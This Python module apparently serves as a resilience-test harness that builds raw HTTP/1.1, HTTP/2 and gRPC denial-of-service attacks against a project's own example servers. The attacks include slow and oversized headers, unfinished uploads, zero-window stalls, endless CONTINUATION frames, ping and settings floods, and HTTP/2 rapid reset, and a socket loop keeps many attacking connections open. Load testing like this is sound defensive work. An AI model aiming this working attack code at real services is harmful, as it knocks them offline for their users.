"""The attackers of attacks.py: what they send, and the connections that send it."""

import contextlib
import socket
import time

# === a minimal HTTP/2 for the attacks ===

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_STREAM, END_HEADERS = 1, 4
INITIAL_WINDOW_SIZE = 4


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def literal(name, value):
    """A header field without indexing (RFC 7541, 6.2.2), for strings shorter than 127 bytes."""
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


def head(path, method=b"POST"):
    fields = [(b":method", method), (b":scheme", b"http"), (b":path", path), (b":authority", b"attack"),
              (b"te", b"trailers"), (b"content-type", b"application/grpc")]
    return b"".join(literal(*field) for field in fields)


def start_of_connection(window=65535):
    return PREFACE + frame(SETTINGS, 0, 0, INITIAL_WINDOW_SIZE.to_bytes(2, "big") + window.to_bytes(4, "big"))


def calls(path, body, flags, count=100):
    """Returns frames that open `count` calls; the server refuses those beyond its limit of streams."""
    opened = b""
    for number in range(count):
        stream = 2 * number + 1
        opened += frame(HEADERS, END_HEADERS, stream, head(path)) + frame(DATA, flags, stream, body)
    return opened


def unread(path, window, count=100):
    """Opens a connection with `count` GETs, and lets the server send `window` bytes of each response."""
    gets = [frame(HEADERS, END_HEADERS | END_STREAM, 2 * number + 1, head(path, b"GET")) for number in range(count)]
    return start_of_connection(window) + b"".join(gets)


HELLO, WATCH = b"/hello.Hello/SayHello", b"/grpc.health.v1.Health/Watch"
# With an empty id, as here, the answer does not depend on the database.
GET_CUSTOMER = b"/ticketing.CustomerController/GetCustomer"
EMPTY = bytes(5)


def get(path):
    return f"GET {path} HTTP/1.1\r\nhost: attack\r\n".encode()


# === attacks: the bytes that a connection sends first, and repeatedly ===


class Attack:
    """Bytes sent first and again. `resets`, the path of a method, means calls that are reset at once."""

    def __init__(self, first, again=b"", resets=None):
        self.first, self.again, self.resets = first, again, resets


def attacks_on_http(path):
    return {
        "silent": Attack(b""),
        "half head": Attack(get(path)),
        "head of 60 KB": Attack(get(path) + b"x-filler: " + b"x" * 60_000),
        "slow head": Attack(get(path), b"x: y\r\n"),
        "unread responses": Attack((get(path) + b"\r\n") * 200, (get(path) + b"\r\n") * 50),
        "unfinished upload": Attack(
            b"POST " + path.encode() + b" HTTP/1.1\r\nhost: attack\r\ncontent-length: 10000000\r\n\r\n" + b"x" * 60_000),
        "half preface": Attack(PREFACE[:10]),
        "http/2 pings unread": Attack(start_of_connection(), frame(PING, 0, 0, bytes(8)) * 500),
        "http/2 zero window": Attack(unread(path.encode(), 0)),
        "http/2 window of 1 byte": Attack(unread(path.encode(), 1)),
    }


def attacks_on_grpc(method):
    return {
        "silent": Attack(b""),
        "half preface": Attack(PREFACE[:10]),
        "preface only": Attack(PREFACE),
        "endless head": Attack(start_of_connection() + frame(HEADERS, 0, 1, head(method)),
                               frame(CONTINUATION, 0, 1, literal(b"x-filler", b"x" * 100) * 50)),
        "half-open calls": Attack(start_of_connection() + calls(method, b"", 0)),
        "unfinished 4 MB messages": Attack(start_of_connection() + calls(
            method, b"\0" + (4_000_000).to_bytes(4, "big") + b"x" * 600, 0)),
        "unfinished 16 KB messages": Attack(start_of_connection() + calls(
            # As many as fit into the window of a connection.
            method, b"\0" + (16_000).to_bytes(4, "big") + b"x" * 15_000, 0, count=4)),
        "zero window": Attack(start_of_connection(window=0) + calls(method, EMPTY, END_STREAM)),
        "health watches": Attack(start_of_connection() + calls(WATCH, EMPTY, END_STREAM)),
        "pings unread": Attack(start_of_connection(), frame(PING, 0, 0, bytes(8)) * 500),
        "settings unread": Attack(start_of_connection(), frame(SETTINGS, 0, 0) * 500),
        "rapid reset": Attack(start_of_connection(), resets=method),
    }


ATTACKS = {
    "hellogrpc": attacks_on_grpc(HELLO),
    "hellohttp": attacks_on_http("/hellohttp?name=x"),
    "helloserve": attacks_on_http("/hellogrpc?name=x"),
    "ticketing": attacks_on_grpc(GET_CUSTOMER),
}


class Attackers:
    """Connections that all run the same attack and are reopened when the program closes them."""

    def __init__(self, address, attack, count):
        self.address, self.attack, self.count = address, attack, count
        self.sockets, self.next_stream, self.ended = [], {}, 0

    def open(self):
        connection = socket.socket()
        connection.setblocking(False)
        # A small buffer: an unread response soon fills it.
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        with contextlib.suppress(BlockingIOError):
            connection.connect(self.address)
        self.sockets.append((connection, bytearray(self.attack.first)))

    def again(self, connection):
        if self.attack.resets is None:
            return self.attack.again
        stream = self.next_stream.get(connection, 1)
        self.next_stream[connection] = stream + 40
        return b"".join(frame(HEADERS, END_HEADERS, each, head(self.attack.resets)) + frame(RST_STREAM, 0, each, bytes([0, 0, 0, 8]))
                        for each in range(stream, stream + 40, 2))

    def turn(self):
        """Sends as much as each connection accepts now, and replaces the connections that were closed."""
        kept = []
        for connection, pending in self.sockets:
            if not pending:
                pending += self.again(connection)
            try:
                if pending:
                    del pending[:connection.send(pending)]
                elif connection.recv(1, socket.MSG_PEEK) == b"":
                    raise ConnectionResetError
                kept.append((connection, pending))
            except BlockingIOError:
                kept.append((connection, pending))
            except OSError:
                self.ended += 1
                self.next_stream.pop(connection, None)
                connection.close()
        self.sockets = kept
        # At most a few per turn: a refused connection must not become a busy loop.
        for _ in range(min(100, self.count - len(self.sockets))):
            self.open()

    def run(self, seconds):
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            self.turn()
            time.sleep(0.05)
        for connection, _ in self.sockets:
            connection.close()
